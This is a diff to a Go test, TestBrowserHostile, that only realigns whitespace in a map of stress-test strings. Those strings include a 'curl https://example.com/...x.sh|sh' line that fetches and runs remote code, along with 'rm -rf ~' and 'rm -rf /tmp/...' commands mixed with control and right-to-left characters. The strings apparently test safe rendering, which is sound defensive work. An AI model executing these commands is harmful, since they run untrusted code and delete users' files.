@@ -86,7 +86,7 @@ func TestBrowserHostile(t *testing.T) {
 		"emoji": strings.Repeat("\U0001F468\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466 \U0001F3F3\ufe0f\u200d\U0001F308\U0001F469\U0001F3FD\u200d\U0001F4BB\U0001F1FA\U0001F1F8\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F", 12),
 		"token": "curl https://example.com/" + strings.Repeat("A9_", 2000) + "/x.sh|sh",
 		"rtl":   "echo \u05e9\u05dc\u05d5\u05dd \u0639\u0631\u0628\u064a 123 ; rm -rf /tmp/\u05d0\u05d1 # \u0627\u0644\u0633\u0644\u0627\u0645 " + strings.Repeat("\u05d0\u0628", 200),
-		"ctl": "echo ok\x00\x1b[2J\r\t\x7f\u0085\u2028 \\n done\n\n\nrm -rf ~ \b\f\x01",
+		"ctl":   "echo ok\x00\x1b[2J\r\t\x7f\u0085\u2028 \\n done\n\n\nrm -rf ~ \b\f\x01",
 	}
 	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
 	defer cancel()
